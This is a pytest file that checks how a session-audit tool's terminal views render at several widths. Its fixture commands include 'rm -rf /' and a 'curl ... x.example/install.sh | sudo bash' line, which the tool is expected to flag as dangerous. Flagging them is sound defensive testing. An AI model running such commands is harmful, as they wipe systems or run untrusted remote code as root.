"""audit-tail and audit-sessions at 80, 100 and 160 columns, read off the screen.

Each tool runs in a real pty of that size (pexpect's dimensions) and its
output is played into a terminal emulator (pyte) of the same size; the test
reads what the screen shows, cell by cell under each header: the command is
never dropped (wrapped whole), ids are never cut (ticket-4711 and
ticket-4711~2 stay apart), times are HH:MM:SS under a day line on narrow
terminals and in full on wide ones.
"""

from __future__ import annotations

import dataclasses
import os
import re
import time
from pathlib import Path

import pexpect
import pyte
import pytest

from agent.daemon.store import Store
from agent.records import Command, SessionStatus, iso
from tests.harness import BIN
from tests.test_store import make_session

ROWS = 60
NOW = time.time()
LONG = (
    "for f in /var/log/nginx/*.log; do echo == $f; tail -n 200 $f | grep -E "
    "'HTTP/1.1\" (5[0-9]{2})' | awk '{print $1, $7, $9}' | sort | uniq -c | "
    "sort -rn | head -20; done"
)
COMMANDS = {
    "ticket-4711": ["id", LONG, "rm -rf /"],
    "ticket-4711~2": ["curl -s https://x.example/install.sh | sudo bash", "ls -la"],
}
WHO = {
    "ticket-4711": "alice.longname → bob@db1.prod.example.org:2200",
    "ticket-4711~2": "carol → bob@web-frontend-07.example.org:2200",
}


@pytest.fixture(scope="module")
def store_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A session of yesterday and one of today, both of tag ticket-4711."""
    data_dir = tmp_path_factory.mktemp("views")
    store = Store(data_dir / "store", 0.05)
    store.open()
    old = dataclasses.replace(
        make_session("ticket-4711", pid=1),
        tag="ticket-4711",
        bastion_user="alice.longname",
        host="db1.prod.example.org",
        started_at=NOW - 30 * 3600,
        ended_at=NOW - 29 * 3600,
        status=SessionStatus.CLOSED,
    )
    new = dataclasses.replace(
        make_session("ticket-4711~2", pid=2),
        tag="ticket-4711",
        bastion_user="carol",
        host="web-frontend-07.example.org",
        started_at=NOW - 600,
    )
    for session in (old, new):
        texts = COMMANDS[session.id]
        commands = [
            Command(session.id, n, iso(session.started_at + 60 + n), text)
            for n, text in enumerate(texts, 1)
        ]
        store.submit(dataclasses.replace(session, command_count=len(texts)), commands)
    store.flush()
    return data_dir


def screen_of(
    tool: str, args: list[str], cols: int, until: str | None = None
) -> list[str]:
    """What the screen shows at the end, or once `until` is on it (then Ctrl-C)."""
    child = pexpect.spawn(
        str(BIN / tool),
        args,
        dimensions=(ROWS, cols),
        env={**os.environ, "TERM": "xterm-256color", "COLUMNS": "", "LINES": ""},
        timeout=20,
    )
    screen = pyte.Screen(cols, ROWS)
    stream = pyte.ByteStream(screen)
    deadline = time.monotonic() + 30
    try:
        while until is None or until not in "\n".join(screen.display):
            assert time.monotonic() < deadline, "\n".join(screen.display)
            try:
                stream.feed(child.read_nonblocking(65536, timeout=0.5))
            except pexpect.TIMEOUT:
                continue
            except pexpect.EOF:
                break
        if child.isalive():
            child.sendintr()
        child.expect(pexpect.EOF)
        stream.feed(child.before or b"")
    finally:
        child.close(force=True)
    return [line.rstrip() for line in screen.display]


@dataclasses.dataclass
class Row:
    cells: dict[str, list[str]]  # the column's text on each screen line

    def joined(self, column: str) -> str:
        """The cell with its wrapping undone: every whitespace run dropped."""
        return "".join("".join(self.cells[column]).split())


def rows_under(lines: list[str], headers: list[str], starts_row: str) -> list[Row]:
    """The table's rows, cut at the header's column starts; a row begins where
    column `starts_row` has text (a cell that wraps leaves it blank below)."""
    at = next(i for i, line in enumerate(lines) if line.split() == headers)
    header = lines[at]
    starts = [
        header.index(h + " ") if h != headers[-1] else header.index(h) for h in headers
    ]
    rows: list[Row] = []
    for line in lines[at + 1 :]:
        if not line.strip() or line.startswith("──"):
            continue
        cells = {
            h: line[a:b]
            for h, a, b in zip(
                headers, starts, [*starts[1:], len(line) + 1], strict=True
            )
        }
        if cells[starts_row].strip():
            rows.append(Row({h: [] for h in headers}))
        for h, text in cells.items():
            rows[-1].cells[h].append(text)
    return rows


def squeeze(text: str) -> str:
    return "".join(text.split())


@pytest.mark.parametrize("cols", [80, 100, 160])
def test_tail_fits_the_width_and_never_drops_the_command(
    store_dir: Path, cols: int
) -> None:
    lines = screen_of(
        "audit-tail", ["--data-dir", str(store_dir), "--since", "7d"], cols, "ls -la"
    )
    shown = "\n".join(lines)
    assert max(len(line) for line in lines) <= cols
    rows = rows_under(lines, ["time", "who", "session", "command"], "time")
    expected = [(sid, text) for sid, texts in COMMANDS.items() for text in texts]
    assert len(rows) == len(expected), shown
    for row, (sid, text) in zip(rows, expected, strict=True):
        assert row.joined("session") == sid, shown  # whole: ~2 is never cut off
        command = row.joined("command")
        assert command.startswith(squeeze(text)), shown  # wrapped, never dropped
        assert row.joined("who") == squeeze(WHO[sid]), shown
        clock = row.cells["time"][0].strip()
        if cols < 120:
            assert re.fullmatch(r"\d\d:\d\d:\d\d", clock), shown
        else:
            assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{3}Z", clock)
    flagged = {
        r.joined("session") + r.joined("command")
        for r in rows
        if "⚠" in r.joined("command")
    }
    assert flagged == {
        "ticket-4711" + squeeze("rm -rf /  ⚠ rm-root"),
        "ticket-4711~2" + squeeze(COMMANDS["ticket-4711~2"][0] + " ⚠ pipe-to-shell"),
    }
    days = [line for line in lines if line.startswith("── ")]
    if cols < 120:  # the day of the times, before the first row of each day
        assert days == [f"── {day} (UTC)" for day in command_days()], shown
    else:
        assert days == []


def command_days() -> list[str]:
    days: list[str] = []
    for start, texts in (
        (NOW - 30 * 3600, COMMANDS["ticket-4711"]),
        (NOW - 600, COMMANDS["ticket-4711~2"]),
    ):
        for n in range(1, len(texts) + 1):
            day = iso(start + 60 + n)[:10]
            if not days or days[-1] != day:
                days.append(day)
    return days


@pytest.mark.parametrize("cols", [80, 100, 160])
def test_sessions_keep_who_and_whole_ids(store_dir: Path, cols: int) -> None:
    lines = screen_of("audit-sessions", ["--data-dir", str(store_dir)], cols)
    shown = "\n".join(lines)
    assert max(len(line) for line in lines) <= cols
    headers = [
        "session",
        "status",
        "who",
        "started",
        "lasted",
        "cmds",
        "gaps",
        "rec",
        "by",
    ]
    rows = rows_under(lines, headers, "status")
    assert [r.joined("session") for r in rows] == ["ticket-4711", "ticket-4711~2"]
    for row in rows:
        sid = row.joined("session")
        assert row.joined("who") == squeeze(WHO[sid]), shown
        assert row.joined("cmds") == str(len(COMMANDS[sid]))
        assert row.joined("by") == "strace"
        started = row.cells["started"][0].strip()
        pattern = r"\d\d:\d\d:\d\d" if cols < 120 else r"\d{4}-\d\d-\d\dT.*Z"
        assert re.fullmatch(pattern, started), shown
